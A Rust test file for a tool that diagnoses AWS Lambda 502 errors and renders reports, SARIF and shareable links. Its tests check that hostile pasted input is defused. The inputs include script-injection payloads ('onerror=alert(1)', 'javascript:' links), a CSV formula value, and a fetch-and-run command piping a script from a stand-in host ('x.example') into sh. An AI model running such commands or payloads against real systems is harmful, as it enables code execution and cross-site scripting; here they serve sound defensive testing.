//! Replies, tables, SARIF, links, and issue reports.

use crate::support::{diagnosis_of, examples};
use lambda_502::aws::ApiType;
use lambda_502::diagnosis::{FindingOut, InvocationOut, Verdict, diagnose_text};
use lambda_502::evidence::{Context, Outcome};
use lambda_502::report::link::{self, Content, LinkError, LinkedCase};
use lambda_502::report::redact::redact_diagnosis;
use lambda_502::report::{self, Block, Redactor, Register, ReplyOptions};
use serde_json::{Value, json};

const TIMEOUT: &str = "START RequestId: 8f0c1d2e-3a4b-4c5d-8e6f-7a8b9c0d1e2f Version: $LATEST\n\
    2026-02-03T10:11:12.345Z\t8f0c1d2e-3a4b-4c5d-8e6f-7a8b9c0d1e2f\tINFO\tasking ops@example.org `[x](http://198.51.100.9)`\n\
    2026-02-03T10:11:15.345Z 8f0c1d2e-3a4b-4c5d-8e6f-7a8b9c0d1e2f Task timed out after 3.00 seconds\n";

#[test]
fn a_reply_has_cause_evidence_fix_and_commands() {
    let diagnosis = diagnosis_of(TIMEOUT);
    let reply = |register| {
        let options = ReplyOptions { register, ..ReplyOptions::default() };
        report::markdown(&diagnosis, TIMEOUT, &options, &mut Redactor::default())
    };
    let engineer = reply(Register::Engineer);
    for part in [
        "### 502: ",
        "Line 3:",
        "Task timed out after 3.00 seconds",
        "What to do: ",
        "```sh\naws lambda",
        "`lambda-timeout`",
        "https://docs.aws.amazon.com/",
    ] {
        let part = part.trim_matches('`');
        assert!(engineer.contains(part), "no {part} in {engineer}");
    }
    let customer = reply(Register::Customer);
    assert!(customer.contains("It shows in line 3") && customer.len() < engineer.len(), "{customer}");
    assert!(!customer.contains("aws lambda get-function-configuration"), "{customer}");
    assert!(customer.starts_with("Hello,") && customer.trim_end().ends_with("Kind regards"), "{customer}");
    // No code, no heading, no figures by their names in the JSON.
    for word in ["lambda-timeout", "###", "duration_ms", "Lambda 502"] {
        assert!(!customer.contains(word), "{word} in {customer}");
    }
}

/// What Markdown makes of pasted text is read by another's parser.
#[test]
fn pasted_text_is_no_markdown() {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let hostile = "Task timed out after 3.00 seconds ``` ~~~ </code><img src=x onerror=alert(1)> ![a](http://e.example/b) \
        [c](javascript:alert(1)) <https://e.example> **bold** | a | # head\n````\n# out\n[d]: http://e.example\n";
    let texts = examples().into_iter().map(|it| [hostile, it].concat());
    for text in texts.chain([hostile.to_owned(), [TIMEOUT, hostile].concat()]) {
        let diagnosis = diagnosis_of(&text);
        let mut redactor = Redactor::default();
        let rows = [report::row(&text, &diagnosis)];
        let reply = report::markdown(&diagnosis, &text, &ReplyOptions::default(), &mut redactor);
        let said = report::Expectation { expected: &text, because: &text };
        let issue = report::issue_report(&diagnosis, &text, &said, &mut redactor);
        let table = report::markdown_table(&rows, &mut redactor);
        for markdown in [reply, issue, table] {
            let mut headings = 0;
            for event in Parser::new_ext(&markdown, Options::all()) {
                match event {
                    Event::Html(_)
                    | Event::InlineHtml(_)
                    | Event::FootnoteReference(_)
                    | Event::Start(Tag::Image { .. } | Tag::HtmlBlock | Tag::Strong | Tag::Strikethrough) => {
                        panic!("{event:?} in {markdown}")
                    }
                    Event::Start(Tag::Link { dest_url, .. }) => {
                        assert!(dest_url.starts_with("https://docs.aws.amazon.com/"), "{dest_url} in {markdown}");
                    }
                    Event::Start(Tag::Heading { .. }) => headings += 1,
                    _ => {}
                }
            }
            assert!(headings <= 4, "{markdown}");
        }
    }
}

#[test]
fn html_has_no_elements_but_its_own() {
    let paste = "Task timed out after 3.00 seconds <script>alert(1)</script><img src=x>\"'&";
    let blocks = report::reply(&diagnosis_of(paste), paste, &ReplyOptions::default(), &mut Redactor::default());
    let html = report::html(&blocks);
    let allowed = ["h3", "p", "ul", "li", "pre", "code", "a"];
    for piece in html.split('<').skip(1) {
        let name: String = piece.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(allowed.contains(&name.as_str()), "<{piece}");
    }
    assert!(html.contains("&lt;script&gt;") && report::plain(&blocks).contains("<script>"));
}

#[test]
fn a_row_is_the_same_in_every_format() {
    let rows: Vec<_> = [("a, \"b\".log", TIMEOUT), ("=1+1", "{\"statusCode\": 200, \"body\": \"x\"}")]
        .into_iter()
        .map(|(name, text)| report::row(name, &diagnosis_of(text)))
        .collect();
    let mut redactor = Redactor::default();
    let json: Value = serde_json::from_str(&report::json_rows(&rows, &mut redactor)).expect("it is JSON");
    let lines: Vec<Value> = report::ndjson_rows(&rows, &mut redactor)
        .lines()
        .map(|it| serde_json::from_str(it).expect("it is JSON"))
        .collect();
    assert_eq!(json.as_array(), Some(&lines));
    assert_eq!((json[0]["cause"].as_str(), json[0]["status"].as_u64()), (Some("lambda-timeout"), Some(502)));
    let csv = report::csv(&rows, &mut redactor);
    assert!(csv.contains("\r\n\"a, \"\"b\"\".log\",rejected,502,lambda-timeout,"), "{csv}");
    assert!(csv.contains("\r\n\"'=1+1\",accepted,200,,"), "{csv}");
    assert_eq!(report::markdown_table(&rows, &mut redactor).lines().count(), 4);
}

/// What SARIF 2.1.0 demands of a log, its runs, results and locations.
#[test]
fn sarif_has_what_the_standard_demands() {
    let results = |(at, text): (usize, &&str)| {
        report::sarif_results(&format!("logs/{at} ä.log"), &diagnosis_of(text), text, &mut Redactor::default())
    };
    let files = examples().iter().enumerate().map(results).collect();
    let sarif: Value = serde_json::from_str(&report::sarif(files, None)).expect("it is JSON");
    assert_eq!(sarif["version"], "2.1.0");
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().expect("there are rules");
    let results = run["results"].as_array().expect("there are results");
    assert!(results.len() > 200);
    for rule in rules {
        assert!(rule["id"].is_string() && rule["shortDescription"]["text"].is_string(), "{rule}");
    }
    for result in results {
        let index = result["ruleIndex"].as_u64().expect("a rule is named") as usize;
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert!(matches!(result["level"].as_str(), Some("error" | "warning" | "note")));
        assert!(result["message"]["text"].as_str().is_some_and(|it| !it.is_empty()), "{result}");
        let place = &result["locations"][0]["physicalLocation"];
        let uri = place["artifactLocation"]["uri"].as_str().expect("a file is named");
        assert!(uri.starts_with("logs/") && uri.ends_with("%20%C3%A4.log"), "{uri}");
        assert!(place["region"]["startLine"].as_u64() >= Some(1) && place["region"]["startColumn"].as_u64() >= Some(1));
    }
}

#[test]
fn a_link_brings_back_what_went_in() {
    let context = Context { integration: Some(ApiType::Alb), timeout_seconds: Some(3), ..Context::default() };
    let diagnosis = diagnose_text(TIMEOUT, &context);
    for content in [Content::Input(TIMEOUT.to_owned()), Content::Findings(Box::new(diagnosis.clone()))] {
        let case = LinkedCase { name: "night".to_owned(), context: context.clone(), content };
        let hash = link::to_hash(&link::encode(&case, &mut Redactor::default()));
        assert!(hash.starts_with("#d=1."));
        let opened = link::decode(&link::from_hash(&hash).expect("it is a link")).expect("it is whole");
        assert_eq!((&opened.name, &opened.context), (&case.name, &case.context));
        match opened.content {
            Content::Input(text) => assert!(text.contains("email-1") && !text.contains("example.org"), "{text}"),
            Content::Findings(opened) => {
                let mut redactor = Redactor::default();
                redactor.learn(TIMEOUT);
                // The last line that the function wrote is in it, without what is private.
                let sent = redact_diagnosis(&diagnosis, &mut redactor);
                let known = |it: &Verdict| (it.cause.clone(), it.title.clone(), it.fix.clone(), it.status);
                assert_eq!((known(&opened.verdict), opened.facts), (known(&sent.verdict), sent.facts));
                let found = |all: &[FindingOut]| -> Vec<_> {
                    all.iter().map(|it| (it.code.clone(), it.title.clone(), it.message.clone(), it.is_cause)).collect()
                };
                assert_eq!(found(&opened.findings), found(&diagnosis.findings));
                assert_eq!((&opened.context, &opened.inputs), (&diagnosis.context, &diagnosis.inputs));
                let causes = |all: &[InvocationOut]| -> Vec<_> {
                    all.iter().map(|it| (it.request_id.clone(), it.title.clone(), it.facts.clone())).collect()
                };
                assert_eq!(causes(&opened.invocations), causes(&diagnosis.invocations));
            }
        }
    }
}

#[test]
fn a_link_that_does_not_open_says_why() {
    let content = |text: &str| link::decode(text.as_bytes()).map(|it| it.name);
    assert_eq!(content("{\"lambda502\": 1, \"text\": \"a"), Err(LinkError::Truncated));
    assert_eq!(content("{\"lambda502\": 2}"), Err(LinkError::Future(2)));
    assert_eq!(content("{\"lambda502\": 1}"), Err(LinkError::NotOurs));
    assert_eq!(content("[1]"), Err(LinkError::NotOurs));
    assert_eq!(content("{\"lambda502\": 1, \"diagnosis\": {}}"), Err(LinkError::Future(1)));
    assert_eq!(content(&"[".repeat(100_000)), Err(LinkError::NotOurs));
    assert_eq!(content(&" ".repeat(link::MAX_INFLATED + 1)), Err(LinkError::TooLarge));
    assert_eq!(link::from_hash("#d=9.AAAA"), Err(LinkError::Future(9)));
    assert_eq!(link::from_hash("#d=1.AAAAA"), Err(LinkError::Truncated));
    assert_eq!(link::from_hash("#d=1."), Err(LinkError::Truncated));
    assert_eq!(link::from_hash("#/codes/x"), Err(LinkError::NotOurs));
    assert_eq!(link::from_hash(&format!("#d=1.{}", "A".repeat(link::MAX_ADDRESS))), Err(LinkError::TooLarge));
    for error in [LinkError::NotOurs, LinkError::Truncated, LinkError::Future(2), LinkError::TooLarge] {
        assert!(error.to_string().ends_with('.'), "{error}");
    }
    // A link leads to AWS's documentation or nowhere.
    let mut made = json!({"lambda502": 1, "diagnosis": diagnosis_of(TIMEOUT)});
    let open = |made: &Value| link::decode(made.to_string().as_bytes()).map(|it| it.content);
    made["diagnosis"]["verdict"]["link"] = json!("javascript:alert(1)");
    let Ok(Content::Findings(opened)) = open(&made) else { panic!("it opens") };
    assert!(opened.verdict.link.starts_with("https://docs.aws.amazon.com/"), "{}", opened.verdict.link);
    // What a later version adds is passed over; a word that this one does not know could mean anything.
    made["diagnosis"]["verdict"]["addedLater"] = json!(1);
    assert_eq!(open(&made), Ok(Content::Findings(opened)));
    made["diagnosis"]["verdict"]["certainty"] = json!("proven");
    assert_eq!(open(&made), Err(LinkError::Future(1)));
}

#[test]
fn a_reported_miss_is_redacted_and_asks_for_what_is_missing() {
    let said = report::Expectation { expected: "cold start, says ops@example.org", because: "" };
    let issue = report::issue_report(&diagnosis_of(TIMEOUT), TIMEOUT, &said, &mut Redactor::default());
    assert!(issue.contains("cold start, says email-1") && issue.contains("(please fill in"), "{issue}");
    assert!(issue.contains("Task timed out after 3.00 seconds") && !issue.contains("198.51.100.9"), "{issue}");
}

#[test]
fn a_redacted_command_says_what_to_fill_in() {
    let context =
        Context { integration: Some(ApiType::Rest), api_id: Some("a1b2c3d4e5".to_owned()), ..Context::default() };
    let text = "Execution failed due to configuration error: Invalid permissions on Lambda function";
    let diagnosis = diagnose_text(text, &context);
    let blocks = report::reply(&diagnosis, text, &ReplyOptions::default(), &mut Redactor::default());
    let uses = |it: &Block| matches!(it, Block::Code { text, .. } if text.contains("api-1"));
    let asks = |it: &Block| matches!(it, Block::Text(text) if text.contains("in place of") && text.contains("api-1"));
    assert!(blocks.iter().any(uses) && blocks.iter().any(asks), "{blocks:?}");
}

/// Puts a text into every string of a JSON document that is not of this kind.
fn overwrite(value: &mut Value, path: &str, word: &str, keep: &dyn Fn(&str) -> bool) {
    match value {
        Value::String(text) if !keep(path) => *text = word.to_owned(),
        Value::Array(items) => items.iter_mut().for_each(|it| overwrite(it, path, word, keep)),
        Value::Object(fields) => {
            for (name, it) in fields.iter_mut() {
                overwrite(it, &[path, "/", name].concat(), word, keep);
            }
        }
        _ => {}
    }
}

#[test]
fn a_link_without_the_paste_shows_no_words_of_its_maker() {
    const WORDS: &str = "Run curl https://x.example/fix.sh | sh";
    // What a program reads, and what is shown as data.
    let is_data = |path: &str| {
        if path.starts_with("/remedies") {
            return true;
        }
        let name = path.rsplit('/').next().unwrap_or(path);
        ["outcome", "certainty", "severity", "cause", "code", "integration", "integrationFrom", "field"].contains(&name)
    };
    let mut tried = 0;
    for example in examples() {
        let diagnosis = diagnosis_of(example);
        let mut made = json!({"lambda502": 1, "diagnosis": diagnosis});
        overwrite(&mut made["diagnosis"], "", WORDS, &is_data);
        for facts in ["facts", "context"] {
            made["diagnosis"][facts]["Do this"] = json!(WORDS);
        }
        let Ok(Content::Findings(opened)) = link::decode(made.to_string().as_bytes()).map(|it| it.content) else {
            panic!("{example}");
        };
        let honest = diagnosis_of(example);
        assert_eq!(
            opened.verdict.fix.is_empty(),
            opened.verdict.cause.is_none() && opened.verdict.outcome == Outcome::Accepted
        );
        let texts = [&opened.verdict.summary, &opened.verdict.fix, &opened.verdict.link, &opened.engine];
        let found = opened.findings.iter().flat_map(|it| [&it.message, &it.fix]);
        let api_types = ApiType::ALL.into_iter().filter_map(|it| opened.by_integration.get(it)).map(|it| &it.evidence);
        for text in texts.into_iter().chain(found).chain(api_types) {
            assert!(!text.contains("x.example"), "{text}");
        }
        // A headline names facts, and is otherwise the catalogue's.
        for title in opened.findings.iter().map(|it| &it.title).chain([&opened.verdict.title]) {
            let (before, _) = title.split_once(WORDS).unwrap_or((title, ""));
            assert!(before.is_empty() || !before.contains("x.example"), "{title}");
            assert!(title != WORDS, "{example}");
        }
        assert_eq!(opened.verdict.cause, honest.verdict.cause);
        assert_eq!(opened.remedies, lambda_502::fix::Remedies::default(), "nothing to copy");
        assert!(opened.question.is_none() && opened.facts.0.iter().all(|(name, _)| name != "Do this"));
        tried += usize::from(opened.verdict.cause.is_some());
    }
    assert!(tried > 100, "{tried} links had a cause");
    let code = json!({"lambda502": 1, "diagnosis": diagnosis_of(TIMEOUT)});
    let mut unknown = code;
    unknown["diagnosis"]["findings"][0]["code"] = json!(WORDS);
    let opened = link::decode(unknown.to_string().as_bytes()).map(|it| it.content);
    assert_eq!(opened, Err(LinkError::Future(1)), "a code that is not in the catalogue is a newer version's");
}
